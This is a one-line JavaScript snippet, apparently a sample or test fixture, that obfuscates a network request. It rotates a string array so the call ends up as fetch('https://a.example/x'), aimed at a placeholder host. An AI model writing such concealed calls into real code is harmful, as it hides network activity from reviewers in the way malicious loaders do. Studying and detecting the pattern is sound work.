var t=["b","a","https://a.example/x"];(function(x,n){while(n--)x.push(x.shift())})(t,2);fetch(t[0]);
